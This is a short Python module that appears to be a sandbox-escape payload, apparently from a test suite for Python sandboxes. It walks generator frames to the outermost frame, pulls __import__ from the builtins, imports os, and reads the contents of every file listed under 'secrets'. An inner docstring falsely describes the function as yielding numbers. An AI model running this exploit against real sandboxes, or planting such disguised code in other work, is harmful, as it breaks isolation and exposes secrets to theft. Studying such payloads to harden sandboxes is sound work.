"""Leaves through the frame of a generator, a coroutine and an async generator."""


async def generator_frame(targets: dict) -> dict:
    """Yield numbers."""

    def walk():
        yield here.gi_frame.f_back

    here = walk()
    frame = next(here)
    while frame.f_back is not None:
        frame = frame.f_back
    space = frame.f_globals["__builtins__"]
    importer = space["__import__"] if isinstance(space, dict) else space.__import__
    system = importer("os")
    print("PRIMITIVE outermost frame", frame.f_code.co_name, system.__name__)
    out = []
    for path in targets["secrets"].values():
        try:
            out.append(system.read(system.open(path, system.O_RDONLY), 400).decode())
        except OSError as error:
            out.append(str(error))
    return {"out": out}
